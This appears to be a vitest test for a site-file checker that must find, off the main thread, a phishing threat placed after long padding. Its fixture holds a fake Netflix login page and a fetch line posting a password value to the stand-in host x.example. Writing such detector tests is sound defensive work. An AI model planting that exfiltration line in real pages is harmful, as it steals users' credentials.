/** Long texts are looked through beside the server's own work (PUB-37). */
import { expect, test } from 'vitest'
import { checkTexts } from './check-texts.ts'

const page = { path: 'index.html', text: '<h1>Netflix</h1><input type="password">' }
const sends = 'fetch("https://x.example", { method: "POST", body: p.value })'

test.each([0, 3_000_000])(
  'what stands after %i letters is found, and the server answers others meanwhile: threat T42 [PUB-37]',
  async (length) => {
    let isDone = false
    const checking = checkTexts([
      page,
      { path: 'app.js', text: `${'"ab","cd",'.repeat(length / 10)}\n${sends}` },
    ]).finally(() => (isDone = true))
    // Had the check run in this thread, it would be over before the first turn of the loop.
    let turns = 0
    for (; !isDone; turns += 1) await new Promise((next) => setImmediate(next))
    expect(turns > 1).toBe(length > 0)
    expect(await checking).toEqual([{ kind: 'credentials', path: 'index.html' }])
  },
)
